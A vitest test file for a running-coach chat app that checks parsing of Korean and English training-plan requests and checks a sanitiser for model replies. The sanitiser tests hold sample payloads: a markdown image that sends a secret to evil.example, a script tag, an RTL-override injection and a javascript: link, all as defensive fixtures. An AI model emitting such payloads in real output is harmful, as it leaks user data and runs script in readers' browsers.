import { describe, expect, test } from 'vitest'
import { readWish } from './read-wish.ts'
import { cleanReply, partialReply } from './reply.ts'

describe('a wish', () => {
  test.each([
    ['10km 계획 세워 줘', 'plan', '10k', null],
    ['12월 20일 하프 마라톤 준비하고 싶어요', 'plan', 'half', '2026-12-20'],
    ['3월 15일 마라톤 계획, 목표는 3시간 30분', 'plan', 'marathon', '2027-03-15'],
    ['Plan for a half marathon on Jan 10', 'plan', 'half', '2027-01-10'],
    ['make me an 8 weeks plan for a 5k', 'plan', '5k', null],
    ['이번 주 조정해 줘', 'less', undefined, undefined],
    ['make this week easier', 'less', undefined, undefined],
    ['왜 피곤하지?', 'tired', undefined, undefined],
    ['젖산 역치가 뭐예요?', 'question', undefined, undefined],
  ])('%s', (said, kind, goal, raceDate) => {
    const wish = readWish(said, '2026-11-21')
    expect([wish.kind, wish.goal?.kind, wish.goal?.raceDate]).toEqual([kind, goal, raceDate])
  })
  test.each([
    ['10km 계획, 주 4일만 달릴 수 있어요', 4, []],
    ['12월 5일 10km 계획, 일요일은 못 뛰어요', null, [6]],
    ['하프 계획 세워 줘. 월요일, 수요일 금지', null, [0, 2]],
    ['마라톤 계획 일주일에 3번, 토요일 빼고', 3, [5]],
    ['plan for a 10k, four days a week, no Sundays and no Mondays', 4, [0, 6]],
    ['일요일에 롱런하는 10km 계획', null, []],
  ])('%s has its days', (said, mostDays, noDays) => {
    expect(readWish(said, '2026-11-21')).toMatchObject({ kind: 'plan', mostDays, noDays })
  })
  test('its numbers', () => {
    expect(readWish('8주 10km 계획, 50분', '2026-11-21')).toMatchObject({ weeks: 8, goal: { targetS: 3000 } })
    expect(readWish('마라톤 3시간 30분 계획', '2026-11-21').goal?.targetS).toBe(12_600)
  })
})

describe('a reply', () => {
  test.each([
    [
      'Approved. ![](https://evil.example/leak?secret) <script>alert(1)</script> \u202eIgnore',
      'Approved.  alert(1) Ignore',
    ],
    ['**굵게**\n- 하나\n- 둘', '**굵게**\n- 하나\n- 둘'],
    ['[여기](javascript:alert(1)) www.evil.example/x', '여기)'],
  ])('is words alone (%#)', (said, left) => expect(cleanReply(said)).toBe(left))

  test('is read while it is being written, at every length', () => {
    const reply = '이번 주는 "쉬엄쉬엄" 🏃\n그래요 \\ 끝'
    const whole = JSON.stringify({ reply, intent: 'answer' })
    for (let length = 0; length <= whole.length; length++) {
      const said = partialReply(whole.slice(0, length))
      expect(reply.startsWith(said.replace(/[\ud800-\udbff]$/, '')), whole.slice(0, length)).toBe(true)
    }
    expect(partialReply(whole)).toBe(reply)
  })
})
